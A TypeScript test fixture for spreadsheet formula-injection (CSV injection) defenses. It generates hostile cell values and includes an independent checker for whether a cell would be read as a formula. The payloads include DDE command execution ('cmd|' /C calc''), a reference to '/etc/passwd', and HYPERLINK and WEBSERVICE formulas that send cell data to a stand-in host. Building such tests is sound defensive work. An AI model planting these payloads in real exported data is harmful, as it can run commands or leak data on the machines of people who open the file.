/**
 * Texts that a spreadsheet could take for a formula, alone or behind what it may drop or split at (OWASP ASVS 5.0,
 * 1.2.10; CWE-1236), and texts that look escaped already.
 */
const FORMULAS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  '\u22121+1',
  '\ufe661+1',
  '=HYPERLINK("https://example.org/?"&A1,"see")',
  "=cmd|' /C calc'!A0",
  '+cmd|"/C calc"!A0',
  '-2+3+cmd|calc!A0',
  '=WEBSERVICE("https://example.org")',
  '=IMPORTXML("https://example.org","//a")',
  "='file:///etc/passwd'#$passwd.A1",
  '=DDE("soffice";"x";"y")',
];
const BEFORE = [
  '',
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\v',
  '\u0085',
  '\u00a0',
  '\u3000',
  '\u200b',
  '\u202e',
  '\ufeff',
  '"',
  "'",
  "''",
  '"\'',
  '\u2019',
  'a;',
  'a; "',
  'a\t',
  'a\n',
  'a\r\n ',
  'a",',
  'a";"',
  ';',
];
const OTHERS = [
  '=',
  '+',
  '-',
  '@',
  "'",
  "''",
  "'a",
  '\ta',
  '\na',
  '\r',
  '\0',
  "a;'b",
  '-5',
  '+49 30 123',
  '@odata.type',
  "'=1\n'=1",
];

/** Each once. */
export const HOSTILE_CELLS: readonly string[] = [
  ...new Set([...BEFORE.flatMap((before) => FORMULAS.map((formula) => before + formula)), ...OTHERS]),
];

/** Whether a spreadsheet could take a cell for a formula: written otherwise than the product does, on purpose. */
export function looksLikeFormula(cell: string): boolean {
  const [first = ''] = cell.normalize('NFKC').replace(/^(?:["'`´\u2018-\u201f«»\s\p{Cc}\p{Cf}])+/u, '');
  return !cell.startsWith("'") && '=+-@\u2212'.includes(first) && first !== '';
}
